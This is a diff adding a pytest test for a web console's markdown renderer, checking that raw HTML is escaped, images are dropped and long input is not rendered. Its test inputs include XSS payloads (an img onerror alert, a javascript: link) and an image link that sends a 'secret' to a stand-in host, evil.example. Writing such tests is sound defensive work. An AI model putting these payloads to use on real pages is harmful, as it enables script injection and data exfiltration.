@@ -11,6 +11,7 @@ from gateway.console.navigation import GROUPS, OF_WINGS
 from gateway.console.pages.acts import TITLES
 from gateway.console.screens import SCREENS
 from gateway.console.texts import Texts, language_of, translations, visible
+from gateway.console.visit import RENDERED, markdown
 from gateway.wings.agent.wing import PAGES as AGENT
 from gateway.wings.events.wing import PAGES as EVENTS
 from gateway.wings.knowledge.wing import PAGES as KNOWLEDGE
@@ -97,3 +98,22 @@ def test_the_language_is_that_of_the_visitor(cookie: str, accepted: str, languag
 
 def test_invisible_characters_are_written_out() -> None:
     assert visible("a\u202eb\x00c\nd") == "a⟨U+202E⟩b⟨U+0000⟩c\nd"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("*so*", "<p><em>so</em></p>\n"),
+        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>\n"),
+        ("[a](javascript:alert(1))", "<p>[a](javascript:alert(1))</p>\n"),
+        ("![a](https://evil.example/?secret)", None),
+        ("\u202e", "<p>⟨U+202E⟩</p>\n"),
+        ("<" * (RENDERED + 1), f'<pre tabindex="0">{"&lt;" * (RENDERED + 1)}</pre>'),
+    ],
+)
+def test_markdown_has_no_html_of_its_own_and_is_not_rendered_where_it_is_long(
+    text: str, shown: str | None
+) -> None:
+    found = markdown(text)
+    assert "<img" not in found
+    assert shown is None or found == shown
